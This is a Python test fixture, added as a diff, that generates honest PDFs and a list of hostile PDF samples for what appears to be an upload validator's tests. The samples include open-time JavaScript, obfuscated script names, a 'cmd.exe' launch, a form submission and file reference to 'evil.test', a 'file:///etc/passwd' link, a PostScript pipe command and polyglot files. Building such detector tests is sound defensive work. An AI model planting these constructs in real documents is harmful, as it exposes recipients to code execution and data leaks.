@@ -1,0 +1,194 @@
+"""PDF files, honest and otherwise."""
+
+import io
+from collections.abc import Callable
+from functools import cache
+from typing import Any, cast
+
+import pikepdf
+from pikepdf import Array, Dictionary, Name, String
+from reportlab.lib.pagesizes import A4
+from reportlab.pdfbase import pdfmetrics
+from reportlab.pdfbase.cidfonts import UnicodeCIDFont
+from reportlab.pdfgen.canvas import Canvas
+
+from tests.hostile.archives import zipped
+from tests.hostile.case import Case
+from tests.hostile.images import picture
+
+
+@cache
+def pdf(pages: int = 2) -> bytes:
+    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
+    target = io.BytesIO()
+    canvas = Canvas(target, A4)
+    for number in range(1, pages + 1):
+        canvas.bookmarkPage(f"p{number}")
+        canvas.addOutlineEntry(f"第{number}页", f"p{number}")
+        canvas.setFont("STSong-Light", 14)
+        for line in range(30):
+            canvas.drawString(
+                72, 780 - 22 * line, f"第{number}页 第{line + 1}行：两点之间线段最短。"
+            )
+        canvas.linkURL("https://www.moe.gov.cn/", (72, 72, 200, 90))
+        canvas.circle(300, 120, 40, fill=number % 2)
+        canvas.showPage()
+    canvas.save()
+    return target.getvalue()
+
+
+def changed(change: Callable[[pikepdf.Pdf], None], pages: int = 2, **options: Any) -> bytes:
+    with pikepdf.open(io.BytesIO(pdf(pages))) as document:
+        change(document)
+        target = io.BytesIO()
+        document.save(target, **options)
+    return target.getvalue()
+
+
+def _action(kind: str, **more: Any) -> Dictionary:
+    return Dictionary(S=Name(f"/{kind}"), **more)
+
+
+def _on_open(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
+    def change(document: pikepdf.Pdf) -> None:
+        document.Root.OpenAction = action
+
+    return change
+
+
+def _on_page(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
+    def change(document: pikepdf.Pdf) -> None:
+        document.pages[0].obj.AA = Dictionary(O=action)
+
+    return change
+
+
+def _annotated(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
+    def change(document: pikepdf.Pdf) -> None:
+        annotation = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
+        document.pages[0].obj.Annots = Array([document.make_indirect(annotation)])
+
+    return change
+
+
+def _attach(document: pikepdf.Pdf) -> None:
+    document.attachments["evil.exe"] = b"MZ" + b"\x90" * 99
+
+
+def _named_script(document: pikepdf.Pdf) -> None:
+    names = Array([String("x"), _action("JavaScript", JS=String("app.alert(1)"))])
+    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))
+
+
+def _script_in_stream(document: pikepdf.Pdf) -> None:
+    script = document.make_stream(b"app.launchURL('http://evil.test')")
+    document.Root.OpenAction = _action("JavaScript", JS=script)
+
+
+def _xfa(document: pikepdf.Pdf) -> None:
+    form = document.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
+    document.Root.AcroForm = Dictionary(XFA=form, Fields=Array([]))
+
+
+def _unreached(document: pikepdf.Pdf) -> None:
+    """In a thumbnail's dictionary, where nobody looks."""
+    document.pages[1].obj.PieceInfo = Dictionary(
+        X=Dictionary(Private=Array([Array([_action("JavaScript", JS=String("1"))])]))
+    )
+
+
+def _nested(document: pikepdf.Pdf) -> None:
+    inner: Any = Array([])
+    for _ in range(200):
+        inner = Array([inner])
+    document.Root.Nested = inner
+
+
+def _pageless() -> bytes:
+    document = pikepdf.new()
+    target = io.BytesIO()
+    document.save(target)
+    return target.getvalue()
+
+
+def _many_pages() -> bytes:
+    document = pikepdf.new()
+    document.add_blank_page()
+    page = document.pages[0].obj
+    document.Root.Pages.Kids = Array(
+        [document.make_indirect(Dictionary(cast(Any, page))) for _ in range(5001)]
+    )
+    document.Root.Pages.Count = 5001
+    target = io.BytesIO()
+    document.save(target)
+    return target.getvalue()
+
+
+_SCRIPT = _action("JavaScript", JS=String("app.alert(1)"))
+_STREAMS: dict[str, Any] = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
+_LOCKED: dict[str, Any] = {"encryption": pikepdf.Encryption(owner="o", user="u")}
+_RESTRICTED: dict[str, Any] = {"encryption": pikepdf.Encryption(owner="o", user="")}
+
+HONEST = [
+    Case("a PDF", "讲义.pdf", pdf, declared="application/pdf"),
+    Case("a PDF of a page", "a.pdf", lambda: pdf(1)),
+    Case("a PDF in object streams", "a.pdf", lambda: changed(lambda _: None, **_STREAMS)),
+    Case("a PDF for the web", "a.pdf", lambda: changed(lambda _: None, linearize=True)),
+    Case("a PDF that opens on a page", "a.pdf", lambda: changed(lambda d: setattr(d.Root, "OpenAction", Array([d.pages[1].obj, Name.Fit])))),
+    Case("a PDF that ends in line breaks", "a.pdf", lambda: pdf() + b"\r\n\r\n"),
+]  # fmt: skip
+
+HOSTILE = [
+    Case("a script when a PDF opens", "a.pdf", lambda: changed(_on_open(_SCRIPT)), "script"),
+    Case("a script in an object stream", "a.pdf", lambda: changed(_on_open(_SCRIPT), **_STREAMS), "script"),
+    Case("a script that is a stream", "a.pdf", lambda: changed(_script_in_stream), "script"),
+    Case("a script by name", "a.pdf", lambda: changed(_named_script), "script"),
+    Case("a script spelled otherwise", "a.pdf", lambda: _respelled(), "script"),
+    Case("a script when a page opens", "a.pdf", lambda: changed(_on_page(_SCRIPT)), "script"),
+    Case("a script where nobody looks", "a.pdf", lambda: changed(_unreached), "script"),
+    Case("a script behind a page turn", "a.pdf", lambda: changed(_on_open(_action("GoTo", D=Array([]), Next=_SCRIPT))), "script"),
+    Case("a program when a PDF opens", "a.pdf", lambda: changed(_on_open(_action("Launch", F=String("cmd.exe")))), "action"),
+    Case("a form that sends itself", "a.pdf", lambda: changed(_on_open(_action("SubmitForm", F=String("http://evil.test")))), "action"),
+    Case("data that is imported", "a.pdf", lambda: changed(_on_open(_action("ImportData", F=String("a.fdf")))), "action"),
+    Case("a jump to another file", "a.pdf", lambda: changed(_on_open(_action("GoToR", F=String("\\\\evil.test\\a.pdf")))), "external-reference"),
+    Case("a jump to an attachment", "a.pdf", lambda: changed(_on_open(_action("GoToE", T=Dictionary()))), "embedded-file"),
+    Case("a link to a script", "a.pdf", lambda: changed(_annotated(Subtype=Name.Link, A=_action("URI", URI=String("javascript:alert(1)")))), "action"),
+    Case("a link to a file", "a.pdf", lambda: changed(_annotated(Subtype=Name.Link, A=_action("URI", URI=String("file:///etc/passwd")))), "action"),
+    Case("a film in a PDF", "a.pdf", lambda: changed(_annotated(Subtype=Name.RichMedia)), "embedded-object"),
+    Case("a screen in a PDF", "a.pdf", lambda: changed(_annotated(Subtype=Name.Screen)), "embedded-object"),
+    Case("a body in a PDF", "a.pdf", lambda: changed(_annotated(Subtype=Name("/3D"))), "embedded-object"),
+    Case("an attachment to a page", "a.pdf", lambda: changed(_annotated(Subtype=Name.FileAttachment)), "embedded-file"),
+    Case("an attachment to a PDF", "a.pdf", lambda: changed(_attach), "embedded-file"),
+    Case("an XFA form", "a.pdf", lambda: changed(_xfa), "active-form"),
+    Case("an encrypted PDF", "a.pdf", lambda: changed(lambda _: None, **_LOCKED), "encrypted"),
+    Case("a restricted PDF", "a.pdf", lambda: changed(lambda _: None, **_RESTRICTED), "encrypted"),
+    Case("arrays of two hundred levels", "a.pdf", lambda: changed(_nested), "too-costly"),
+    Case("a PDF of no page", "a.pdf", _pageless, "empty"),
+    Case("a PDF of 5001 pages", "a.pdf", _many_pages, "too-many"),
+    Case("a PDF cut in half", "a.pdf", lambda: pdf()[: len(pdf()) // 2], "damaged"),
+    Case("a PDF without its end", "a.pdf", lambda: pdf()[:-8], "damaged"),
+    Case("a PDF whose table points elsewhere", "a.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n1"), "damaged"),
+    Case("a PDF of a header", "a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged"),
+    Case("a PDF with a ZIP behind", "a.pdf", lambda: pdf() + zipped({"evil.js": b"x"}), "polyglot"),
+    Case("a PDF with a program behind", "a.pdf", lambda: pdf() + b"MZ" + b"\x90" * 500, "hidden-data"),
+    Case("a PDF behind a page", "a.pdf", lambda: b"<html><script>1</script>\n" + pdf(), "type-not-accepted"),
+    Case("a PDF behind some text", "a.pdf", lambda: b"some text\n" + pdf(), "polyglot"),
+    Case("a PDF named picture", "a.png", pdf, "name-mismatch"),
+    Case("a PDF declared picture", "a.pdf", pdf, "type-mismatch", "image/png"),
+    Case("a program named PDF", "a.pdf", lambda: b"MZ\x90\0" + b"\0" * 200, "type-not-accepted"),
+    Case("a page named PDF", "a.pdf", lambda: b"<!DOCTYPE html><script>1</script>", "type-not-accepted"),
+    Case("a picture named PDF", "a.pdf", lambda: picture("PNG"), "name-mismatch"),
+    Case("PostScript named PDF", "a.pdf", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (w) file", "type-not-accepted"),
+]  # fmt: skip
+
+
+def _respelled() -> bytes:
+    """Offsets in the table stay right: the names grow where spaces shrink."""
+    plain = changed(_on_open(_SCRIPT), linearize=False, compress_streams=False)
+    for name, spelled in ((b"/S /JavaScript", b"/S/J#61vaScript"), (b"/JS (", b"/J#53(")):
+        missing = len(spelled) - len(name)
+        at = plain.index(name)
+        rest = plain[at + len(name) :]
+        gap = rest.index(b" " * missing) if missing > 0 else 0
+        plain = plain[:at] + spelled + rest[:gap] + rest[gap + max(missing, 0) :]
+    return plain
